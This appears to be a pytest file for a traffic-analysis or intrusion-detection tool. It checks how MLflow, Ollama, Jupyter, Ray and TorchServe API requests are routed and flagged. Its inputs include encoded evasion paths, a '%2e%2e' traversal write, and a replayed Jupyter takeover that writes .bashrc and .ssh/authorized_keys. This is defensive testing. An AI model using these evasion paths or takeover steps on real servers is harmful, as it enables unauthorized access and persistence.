               exchange("HEAD", "/v2/a/blobs/sha256:b", status=None, headers=[("user-agent", "ollama/1")]),
               exchange("POST", "/api/blobs/sha256:" + "0" * 64, gguf_bytes(), content_type="application/octet-stream",
                        status=201)],
    "jupyter": [exchange("PATCH", "/api/contents/a", {"path": "b"}, status=None),
                exchange("DELETE", "/api/%6Bernels/k1/checkpoints/c-1", status=None),
                exchange("DELETE", "/api/contents/nb.ipynb/checkpoints/c-1", status=None)],
}


@pytest.mark.parametrize("layer", sorted(LAYERS))
def test_fields_are_declared(layer):
    extra = [run_layer(LAYERS[layer], ex)[0] for ex in EXTRA[layer]]
    # ollama.model is the model-file object, declared and tested field by field in test_modelfile.py
    check_catalogue(layer, [*objects(layer), *extra], shared=("ollama.model.",) if layer == "ollama" else ())


# --- routing as the servers route (percent-decoded, slashes merged), real captures ------------------

CAPTURES = Path(__file__).parent / "captures"


def _shipped_rules():
    return load_rules([REPO / "signatures"], load_config(None))


def test_mlflow_evasion_capture_is_routed_as_the_server_routes_it():
    """mlflow 3.17.2 answered every one of these (the experiments were created, model.pkl written)."""
    records = analyze(CAPTURES / "mlflow_evasion.pcap", Engine(_shipped_rules()))[1]
    calls = [(r["http"]["url"], r["mlflow"]["endpoint"], r["mlflow"].get("routed_path"))
             for r in records if r["event_type"] == "mlflow"]
    artifact = "/api/2.0/mlflow-artifacts/artifacts/1/c28d3c2190734031834ef4017596657e/artifacts/"
    assert [(endpoint, routed) for _, endpoint, routed in calls] == [
        ("mlflow-artifacts/artifacts", artifact + "docs/notes.txt"),
        ("mlflow-artifacts/artifacts", artifact + "model.pkl"),
        ("experiments/create", "/api/2.0/mlflow/experiments/create"),
        ("experiments/create", "/api/2.0/mlflow/experiments/create"),
        ("experiments/create", "/api/2.0/mlflow/experiments/create"),
        ("get-artifact", "/get-artifact"),
        ("get-artifact", "/get-artifact"),
    ]
    assert calls[3][0] == "/api/2.0/mlflow/experiments%2Fcreate"  # http.url stays as sent
    assert [a["alert"]["signature_id"] for a in records if a["event_type"] == "alert"] == [
        3900004, 3900004, 3900002, 3900002, 3900002, 3900004, 3900003, 3900004, 3900003]
    assert [e for _, e in anomalies(records) if e.endswith("path_obfuscated")] == ["mlflow_path_obfuscated"] * 4


def test_mlflow_static_prefix_capture():
    """`mlflow server --static-prefix /mlflow` and the Python client with tracking URI .../mlflow."""
    records = analyze(CAPTURES / "mlflow_prefix.pcap", Engine(_shipped_rules()))[1]
    calls = [(r["mlflow"]["endpoint"], r["mlflow"].get("prefix")) for r in records if r["event_type"] == "mlflow"]
    assert calls == [("experiments/create", "/mlflow"), ("runs/create", "/mlflow"),
                     ("registered-models/create", "/mlflow"), ("model-versions/create", "/mlflow"),
                     ("get-artifact", "/mlflow")]
    assert [a["alert"]["signature_id"] for a in records if a["event_type"] == "alert"] == [3900002, 3900001, 3900003]


@pytest.mark.parametrize(("path", "endpoint", "prefix", "routed"), [
    ("//api/2.0/mlflow/experiments/create", "experiments/create", None, "/api/2.0/mlflow/experiments/create"),
    ("/api/2.0/mlflow/experiments%2Fcreate", "experiments/create", None, "/api/2.0/mlflow/experiments/create"),
    ("/%61jax-api/2.0/mlflow/runs/create", "runs/create", None, "/ajax-api/2.0/mlflow/runs/create"),
    ("/team/a/api/2.0/mlflow/runs/create", "runs/create", "/team/a", None),
    ("/mlflow/model-versions/get-artifact?path=x&name=m&version=1", "model-versions/get-artifact", "/mlflow", None),
])
def test_mlflow_routes_under_a_prefix_and_decoded(path, endpoint, prefix, routed):
    obj, _ = run_layer(mlflow, exchange("POST", path, {}, status=None))
    assert (obj["endpoint"], obj.get("prefix"), obj.get("routed_path")) == (endpoint, prefix, routed)


def test_mlflow_encoded_dots_are_kept_in_the_path_and_flagged():
    obj, problems = run_layer(mlflow, exchange("PUT", "/api/2.0/mlflow-artifacts/artifacts/1/r/%2e%2e/%2e%2e/x.pkl",
                                               b"x", status=None))
    assert obj["path"] == "1/r/../../x.pkl" and "routed_path" not in obj
    assert [event for event, _ in problems] == ["mlflow_path_obfuscated"]


@pytest.mark.parametrize(("layer", "method", "path", "api", "routed"), [
    ("ray", "GET", "/api/%6Aobs/", "job_list", "/api/jobs/"),
    ("torchserve", "POST", "/%6Dodels?url=http://x/m.mar", "register_model", "/models"),
    ("torchserve", "DELETE", "/models%2Fm", "unregister_model", "/models/m"),
    ("ollama", "POST", "/api/%70ull", "pull", "/api/pull"),
    ("ollama", "POST", "/api%2Fpull", "pull", "/api/pull"),
    ("jupyter", "POST", "/api/%6Bernels", "kernel_create", "/api/kernels"),
    ("jupyter", "POST", "/user//alice/api//kernels", "kernel_create", "/user/alice/api/kernels"),
])
def test_every_web_api_layer_routes_the_decoded_path(layer, method, path, api, routed):
    body = {"model": "llama3"} if layer == "ollama" else {}
    obj, problems = run_layer(LAYERS[layer], exchange(method, path, body, status=None))
    assert obj is not None and (obj["api"], obj["routed_path"]) == (api, routed)
    flagged = [e for e, _ in problems if e.endswith("path_obfuscated")]
    assert flagged == ([f"{layer}_path_obfuscated"] if "%6" in path or "%70" in path else [])


@pytest.mark.parametrize(("layer", "method", "path"), [
    ("ray", "POST", "/api/jobs%2F"),  # aiohttp keeps %2F: Ray 2.60 answered 404
    ("ray", "POST", "//api/jobs/"),  # no slash merging in aiohttp: 404
    ("torchserve", "POST", "//models?url=http://x/m.mar"),
    ("ollama", "POST", "//api/pull"),
])
def test_paths_the_server_does_not_route_are_not_claimed(layer, method, path):
    assert run_layer(LAYERS[layer], exchange(method, path, {}, status=None))[0] is None


# --- jupyter: contents routes as Jupyter Server takes them --------------------------------------------


@pytest.mark.parametrize(("method", "path", "api", "fields"), [
    ("PUT", "/api/contents/work/checkpoints/model.pt", "contents_save", {"path": "work/checkpoints/model.pt"}),
    ("PATCH", "/api/contents/checkpoints/a.txt", "contents_rename", {"path": "checkpoints/a.txt"}),
    ("GET", "/api/contents/mycheckpoints", "contents_get", {"path": "mycheckpoints"}),
    ("GET", "/api/contents/work/checkpoints", "contents_checkpoints", {"path": "work"}),
    ("POST", "/api/contents/nb.ipynb/checkpoints", "contents_checkpoints", {"path": "nb.ipynb"}),
    ("DELETE", "/api/contents/a/nb.ipynb/checkpoints/checkpoint", "contents_checkpoints",
     {"path": "a/nb.ipynb", "checkpoint_id": "checkpoint"}),
    ("POST", "/api/contents/a/nb.ipynb/trust", "contents_trust", {"path": "a/nb.ipynb"}),
])
def test_jupyter_contents_routes(method, path, api, fields):
    obj, _ = run_layer(jupyter, exchange(method, path, status=None))
    assert {key: obj.get(key) for key in ("api", *fields)} == {"api": api, **fields}
    assert "checkpoint_id" in obj if "checkpoint_id" in fields else "checkpoint_id" not in obj


def test_jupyter_noauth_capture():
    """A token-less Jupyter Server 2.21.1 under /user/alice/ taken over (jupyter_noauth_attack.py)."""
    records = analyze(CAPTURES / "jupyter_noauth.pcap", Engine(_shipped_rules()))[1]
    calls = [(r["http"]["status"], r["jupyter"]["api"], r["jupyter"].get("path"), r["jupyter"].get("new_path"))
             for r in records if r["event_type"] == "jupyter"]
    assert calls == [
        (201, "kernel_create", None, None), (101, "kernel_channels", None, None),
        (200, "terminal_create", None, None), (201, "contents_save", ".bashrc", None),
        (201, "contents_save", "work/checkpoints/model.pt", None),
        (405, "contents_checkpoints", "work", None),  # model_v1 is a checkpoint id to the server: 405
        (200, "contents_get", "work/checkpoints/model.pt", None), (201, "contents_save", ".ssh", None),
        (201, "contents_save", ".ssh/authorized_keys", None),
        (200, "contents_rename", "work/checkpoints/model.pt", ".profile"),
        (204, "kernel_delete", None, None),
    ]
    fired = [(a["alert"]["signature_id"], a["jupyter"]["api"]) for a in records if a["event_type"] == "alert"]
    assert fired == [(4100001, "kernel_create"), (4100001, "kernel_channels"), (4100001, "terminal_create"),
                     (4100002, "contents_save"), (4100002, "contents_save"), (4100002, "contents_rename")]
